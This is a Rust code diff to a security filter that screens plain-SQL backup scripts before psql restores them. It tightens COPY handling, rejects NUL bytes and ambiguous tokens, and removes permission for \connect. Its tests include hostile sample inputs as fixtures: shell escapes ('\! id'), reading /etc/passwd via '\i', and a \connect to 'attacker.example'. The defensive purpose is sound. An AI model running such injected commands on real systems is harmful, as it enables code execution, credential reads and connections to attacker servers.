@@ -27,9 +27,9 @@ use std::fmt;
 /// The longest meta-command line the guard reads (pg_dump's are under 100
 /// bytes).
 const MAX_META_LINE: usize = 4096;
-/// The longest line checked for being a `COPY … FROM stdin;` statement; a
-/// longer one is plain SQL to the guard (so its data would be refused).
-const MAX_COPY_LINE: usize = 64 * 1024;
+/// The longest `COPY … FROM stdin;` line accepted (one of a table of 1,600
+/// columns with 63-byte names is about 100 KiB).
+const MAX_COPY_LINE: usize = 4 * 1024 * 1024;
 
 /// Why the guard stopped the stream.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -86,11 +86,23 @@ enum State {
     /// A backslash command line being read (from the backslash to the end
     /// of the line).
     Meta(Vec<u8>),
-    /// `COPY … FROM stdin` data: lines pass until one starting with `\.`.
+    /// `COPY … FROM stdin` data: lines pass until one that is exactly
+    /// `\.` (psql's end of data); `end`: how much of it the current line
+    /// has been so far.
     Copy {
-        line_start: bool,
-        backslash: bool,
+        end: EndOfData,
     },
+}
+
+/// How far the current COPY data line matches psql's end of data, `\.`
+/// alone on its line (`\.\r` too).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum EndOfData {
+    LineStart,
+    Backslash,
+    Dot,
+    DotCr,
+    No,
 }
 
 /// The filter between an artifact's plaintext and psql. Feed it the stream
@@ -112,6 +124,14 @@ pub struct PsqlGuard {
     identifiers: [u8; 4],
     /// The identifier being read.
     ident: Vec<u8>,
+    /// The identifier being read follows a number with nothing between
+    /// (`1e5`, `1end`): psql 15 lexes those as one token, older ones as
+    /// two, so anything that could change is refused.
+    glued: bool,
+    /// The last byte outside a word was a digit.
+    after_digit: bool,
+    /// The statement being read started with the word COPY.
+    copy_stmt: bool,
     /// The current line, while it may be a `COPY … FROM stdin;` statement.
     copy_line: Option<Vec<u8>>,
     /// Top-level `;` seen on the current line.
@@ -134,6 +154,9 @@ impl PsqlGuard {
             identifier_count: 0,
             identifiers: [0; 4],
             ident: Vec::new(),
+            glued: false,
+            after_digit: false,
+            copy_stmt: false,
             copy_line: Some(Vec::new()),
             semis_on_line: 0,
         }
@@ -192,13 +215,18 @@ impl PsqlGuard {
     }
 
     fn byte(&mut self, b: u8, out: &mut Vec<u8>) -> Result<(), Refused> {
+        if b == 0 {
+            // psql reads lines as C strings: it would not see what follows
+            // a NUL, and the guard must see what psql sees.
+            return Err(self.refuse("a NUL byte (pg_dump never writes one)"));
+        }
         match &mut self.state {
             State::Meta(buf) => {
                 if b == b'\n' {
                     let line = std::mem::take(buf);
                     self.state = State::Normal;
                     self.meta_line(&line, out)?;
-                    self.newline(out);
+                    self.newline(out)?;
                     return Ok(());
                 }
                 if buf.len() >= MAX_META_LINE {
@@ -209,38 +237,28 @@ impl PsqlGuard {
                 buf.push(b);
                 return Ok(());
             }
-            State::Copy {
-                line_start,
-                backslash,
-            } => {
+            State::Copy { end } => {
                 out.push(b);
                 if b == b'\n' {
-                    let ended = *backslash;
+                    let ended = matches!(*end, EndOfData::Dot | EndOfData::DotCr);
                     self.line += 1;
                     self.column = 0;
                     if ended {
-                        // psql ends the data at `\.`; the guard ends it at
-                        // any line starting so (never later than psql).
+                        // psql's end of data: a line that is exactly `\.`.
                         self.state = State::Normal;
                         self.after_statement();
                         self.copy_line = Some(Vec::new());
                     } else {
-                        self.state = State::Copy {
-                            line_start: true,
-                            backslash: false,
-                        };
+                        *end = EndOfData::LineStart;
                     }
                     return Ok(());
                 }
-                if *line_start {
-                    *backslash = b == b'\\';
-                    *line_start = false;
-                    self.column += 1;
-                    return Ok(());
-                }
-                if *backslash && self.column == 1 {
-                    *backslash = b == b'.';
-                }
+                *end = match (*end, b) {
+                    (EndOfData::LineStart, b'\\') => EndOfData::Backslash,
+                    (EndOfData::Backslash, b'.') => EndOfData::Dot,
+                    (EndOfData::Dot, b'\r') => EndOfData::DotCr,
+                    _ => EndOfData::No,
+                };
                 self.column += 1;
                 return Ok(());
             }
@@ -251,18 +269,18 @@ impl PsqlGuard {
 
     /// One byte outside meta lines and COPY data.
     fn lex(&mut self, b: u8, out: &mut Vec<u8>) -> Result<(), Refused> {
-        let inside = !matches!(self.state, State::Normal | State::Dash | State::Slash);
-        if b == b'\n' && inside && self.state != State::LineComment {
-            // A line break inside a string or comment: the statement goes
-            // on, so the next line cannot start a COPY.
-            self.lex_inside(b, out)?;
+        let line = self.line;
+        self.lex_inside(b, out)?;
+        if b == b'\n' && self.line == line {
+            // A line break inside a string or comment (one outside them
+            // went through `newline`): the statement goes on, so the next
+            // line cannot start a COPY.
             self.line += 1;
             self.column = 0;
             self.semis_on_line = 0;
             self.copy_line = None;
-            return Ok(());
         }
-        self.lex_inside(b, out)
+        Ok(())
     }
 
     fn lex_inside(&mut self, b: u8, out: &mut Vec<u8>) -> Result<(), Refused> {
@@ -270,7 +288,7 @@ impl PsqlGuard {
             State::Normal => self.normal(b, out),
             State::Dash => {
                 if b == b'-' {
-                    self.end_word();
+                    self.end_word()?;
                     self.state = State::LineComment;
                     self.emit(b, out);
                     Ok(())
@@ -281,7 +299,7 @@ impl PsqlGuard {
             }
             State::Slash => {
                 if b == b'*' {
-                    self.end_word();
+                    self.end_word()?;
                     self.state = State::Block {
                         depth: 1,
                         star: false,
@@ -296,7 +314,7 @@ impl PsqlGuard {
             }
             State::LineComment => {
                 if b == b'\n' {
-                    self.newline(out);
+                    self.newline(out)?;
                 } else {
                     self.state = State::LineComment;
                     self.emit(b, out);
@@ -419,7 +437,11 @@ impl PsqlGuard {
         let was_word = !self.ident.is_empty();
         let continues_word = was_word && (is_ident_start(b) || b.is_ascii_digit() || b == b'$');
         if !continues_word {
-            let word = self.end_word();
+            let glued = self.glued;
+            let word = self.end_word()?;
+            if glued && let Some(w) = &word {
+                self.check_glued(w, b)?;
+            }
             if b == b'\'' {
                 // E'…' (one letter E right before the quote) takes
                 // backslash escapes; B'…', X'…', N'…', U&'…' do not.
@@ -445,8 +467,8 @@ impl PsqlGuard {
                 Ok(())
             }
             b'\n' => {
-                self.newline(out);
-                Ok(())
+                self.after_digit = false;
+                self.newline(out)
             }
             b' ' | b'\t' | b'\r' | b'\x0c' => {
                 self.emit(b, out);
@@ -502,9 +524,11 @@ impl PsqlGuard {
                 } else {
                     self.token();
                     if is_ident_start(b) {
+                        self.glued = self.after_digit;
                         self.ident.push(b);
                     }
                 }
+                self.after_digit = !continues_word && b.is_ascii_digit();
                 self.emit(b, out);
                 Ok(())
             }
@@ -535,14 +559,26 @@ impl PsqlGuard {
     }
 
     /// Ends the identifier being read (tracking psql's `BEGIN ATOMIC`
-    /// heuristic) and returns it.
-    fn end_word(&mut self) -> Option<Vec<u8>> {
+    /// heuristic and COPY statements) and returns it.
+    fn end_word(&mut self) -> Result<Option<Vec<u8>>, Refused> {
+        self.glued = false;
         if self.ident.is_empty() {
-            return None;
+            return Ok(None);
         }
         self.token();
         let word = std::mem::take(&mut self.ident);
         let lower = word.to_ascii_lowercase();
+        if self.identifier_count == 0 && lower == b"copy" {
+            // psql sends COPY data from the lines after a COPY the server
+            // answers: the guard must know exactly when, so the only COPY
+            // it lets through is pg_dump's, whole on a line of its own.
+            if self.column != word.len() || self.copy_line.is_none() {
+                return Err(self.refuse(
+                    "a COPY statement that does not start a line (pg_dump writes `COPY table (columns) FROM stdin;` alone on a line)",
+                ));
+            }
+            self.copy_stmt = true;
+        }
         if self.identifier_count == 0 {
             self.identifiers = [0; 4];
         }
@@ -567,13 +603,49 @@ impl PsqlGuard {
                 _ => {}
             }
         }
-        Some(word)
+        Ok(Some(word))
+    }
+
+    /// A word right after a number (`1e5`): psql 15 and later lex the two
+    /// as one token, older ones as two, so a word that would change where
+    /// a string or a `BEGIN ATOMIC` body ends is refused (`next`: the byte
+    /// after the word).
+    fn check_glued(&self, word: &[u8], next: u8) -> Result<(), Refused> {
+        let lower = word.to_ascii_lowercase();
+        let risky = (lower == b"e" && next == b'\'')
+            || matches!(
+                lower.as_slice(),
+                b"begin"
+                    | b"case"
+                    | b"end"
+                    | b"create"
+                    | b"or"
+                    | b"replace"
+                    | b"function"
+                    | b"procedure"
+                    | b"copy"
+            );
+        if risky {
+            return Err(self.refuse(format!(
+                "a number followed directly by {:?}, which psql versions read differently (pg_dump never writes it)",
+                String::from_utf8_lossy(word)
+            )));
+        }
+        Ok(())
     }
 
     /// A newline outside quotes and COPY data: the COPY check of the line
     /// that ends here, and the next line's start.
-    fn newline(&mut self, out: &mut Vec<u8>) {
-        self.end_word();
+    ///
+    /// # Errors
+    /// [`Refused`] for a COPY statement other than pg_dump's.
+    fn newline(&mut self, out: &mut Vec<u8>) -> Result<(), Refused> {
+        let glued = self.glued;
+        if let Some(w) = self.end_word()?
+            && glued
+        {
+            self.check_glued(&w, b'\n')?;
+        }
         out.push(b'\n');
         let line = self.copy_line.take();
         let is_copy = self.state == State::Normal
@@ -582,17 +654,23 @@ impl PsqlGuard {
             && self.begin_depth == 0
             && self.semis_on_line == 1
             && line.as_deref().is_some_and(is_copy_from_stdin);
+        if self.copy_stmt && !is_copy {
+            return Err(self.refuse(
+                "a COPY statement other than pg_dump's `COPY table (columns) FROM stdin;` alone on its line",
+            ));
+        }
+        self.copy_stmt = false;
         self.line += 1;
         self.column = 0;
         self.semis_on_line = 0;
         if is_copy {
             self.state = State::Copy {
-                line_start: true,
-                backslash: false,
+                end: EndOfData::LineStart,
             };
         }
         // Only a line that starts a statement may be a COPY.
         self.copy_line = (self.stmt_empty && self.state == State::Normal).then(Vec::new);
+        Ok(())
     }
 
     /// Judges one backslash command line (without its newline) and writes
@@ -630,13 +708,6 @@ impl PsqlGuard {
                 }
                 Ok(())
             }
-            "connect" => {
-                if args.is_empty() {
-                    return Err(self.refuse("psql \\connect without a database"));
-                }
-                out.extend_from_slice(line);
-                Ok(())
-            }
             _ => Err(self.refuse(format!("psql backslash command \\{shown} refused"))),
         }
     }
@@ -654,8 +725,27 @@ fn is_ident_start(b: u8) -> bool {
     b.is_ascii_alphabetic() || b == b'_' || b >= 0x80
 }
 
+/// Refuses a psql without `\restrict`: the guard alone cannot follow every
+/// way a script can make psql read a backslash where the guard sees a
+/// string (a script may change `standard_conforming_strings` or the client
+/// encoding where no lexer sees it), so a backup's SQL is applied only by a
+/// psql that refuses backslash commands itself.
+///
+/// # Errors
+/// What to install, naming the psql found.
+pub fn require_restrict(psql: &backstop_dump::PgTool) -> Result<(), String> {
+    if psql_has_restrict(&psql.version) {
+        return Ok(());
+    }
+    Err(format!(
+        "{} ({}) cannot refuse backslash commands itself (\\restrict came with PostgreSQL 13.22, 14.19, 15.14, 16.10 and 17.6), and backstop applies a backup's SQL only with a psql that can: install a current postgresql-client (or point pg_bin_dir at one), or restore this plain-SQL artifact by hand after reading it (`backstop download --decrypt`)",
+        psql.version,
+        psql.path.display()
+    ))
+}
+
 /// Whether psql (by `psql --version`'s output) has `\restrict`: 13.22,
-/// 14.19, 15.14, 16.10, 17.6 and every later release.
+/// 14.19, 15.14, 16.10, 17.6 and every later release (18's betas did not).
 pub fn psql_has_restrict(version: &str) -> bool {
     let Some(v) = version
         .split_whitespace()
@@ -673,6 +763,7 @@ pub fn psql_has_restrict(version: &str) -> bool {
         15 => minor >= 14,
         16 => minor >= 10,
         17 => minor >= 6,
+        18 => !v.contains("beta"),
         _ => true,
     }
 }
@@ -733,9 +824,52 @@ mod tests {
             ("SELECT $$ x $$;\n\\i /etc/passwd", 2, "\\i"),
             // The data ends at `\.`; what follows is SQL again.
             ("COPY t (a) FROM stdin;\n1\n\\.\n\\! id\n", 4, "\\!"),
-            // Not a COPY statement as pg_dump writes it: no data mode.
-            ("COPY t FROM stdin; SELECT 1;\n\\! id\n", 2, "\\!"),
-            ("SELECT 1; COPY t FROM stdin;\n\\! id\n", 2, "\\!"),
+            // A COPY other than pg_dump's is refused outright: psql could
+            // take the lines after it as data where the guard does not.
+            (
+                "COPY t FROM stdin; SELECT 1;\n\\! id\n",
+                1,
+                "COPY statement other",
+            ),
+            (
+                "SELECT 1; COPY t FROM stdin;\n\\! id\n",
+                1,
+                "does not start a line",
+            ),
+            (
+                "COPY t FROM stdin ;\n'\n\\.\n\\! id\n'\n",
+                1,
+                "COPY statement other",
+            ),
+            (
+                "COPY t\nFROM stdin;\n'\n\\.\n\\! id\n",
+                1,
+                "COPY statement other",
+            ),
+            (
+                "COPY t FROM stdin; -- x\n'\n\\.\n\\! id\n",
+                1,
+                "COPY statement other",
+            ),
+            ("  COPY t FROM stdin;\n\\! id\n", 1, "does not start a line"),
+            // Only a line that is exactly `\.` ends the data (psql's rule).
+            ("COPY t (a) FROM stdin;\n\\\n'\n\\.\n\\! id\n'\n", 5, "\\!"),
+            ("COPY t (a) FROM stdin;\n\\.x\n\\.\n\\! id\n", 4, "\\!"),
+            // psql would not see past a NUL; the guard must not either.
+            ("SELECT 1;\0'\n\\! id\n';\n", 1, "NUL"),
+            // psql 15 lexes `1E` as one token, older ones as 1 and E'…'.
+            ("SELECT 1E'\\'\n\\! id\n';\n", 1, "number followed directly"),
+            (
+                "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; 1end;\nCOPY t FROM stdin;\n\\! id\n",
+                1,
+                "number followed directly",
+            ),
+            // pg_dump without --create and pg_dumpall -g never connect.
+            (
+                "\\connect \"host=attacker.example dbname=x\"\n",
+                1,
+                "\\connect",
+            ),
             ("SELECT (1;\nCOPY t FROM stdin;\n\\! id\n", 3, "statement"),
             ("SELECT 'COPY t FROM stdin;\n';\n\\! id\n", 3, "\\!"),
             // Inside a BEGIN ATOMIC body a `;` ends nothing (psql agrees).
@@ -748,6 +882,9 @@ mod tests {
             // Line numbers count the lines inside strings and comments.
             ("SELECT 'a\nb\nc';\n\\! id\n", 4, "\\!"),
             ("/* a\nb */\n-- c\n\\! id\n", 4, "\\!"),
+            // A line that ends right after a closing quote or a lone `$`
+            // is one line.
+            ("SELECT 'a'\n, $\n, 1;\n\\! id\n", 4, "\\!"),
             (
                 &"\\connect x\n".replace('x', &"y".repeat(5000)),
                 1,
@@ -792,6 +929,8 @@ mod tests {
             "COPY t (a) FROM stdin;\n\\!\n\\\\\n\\.\n",
             "copy \"x;y\" (a) from stdin;\n\\N\n\\.\r\n",
             "SELECT a$b$c FROM t;\n",
+            // Float exponents are numbers, not words.
+            "CREATE TABLE t (x float DEFAULT 1e-05, y float DEFAULT 2E+10);\n",
             // After a number, `$x$` opens a quote (psql lexes it so).
             "SELECT 1$x$ \\! x $x$;\n",
             "SELECT '\n\\! x\n';\n",
@@ -822,7 +961,8 @@ mod tests {
             ("psql (PostgreSQL) 17.6", true),
             ("psql (PostgreSQL) 17.5", false),
             ("psql (PostgreSQL) 18.1", true),
-            ("psql (PostgreSQL) 18beta1", true),
+            ("psql (PostgreSQL) 18beta1", false),
+            ("psql (PostgreSQL) 18rc1", true),
             ("psql (PostgreSQL) 13.22", true),
             ("psql (PostgreSQL) 12.22", false),
             ("psql (PostgreSQL) 16.10", true),
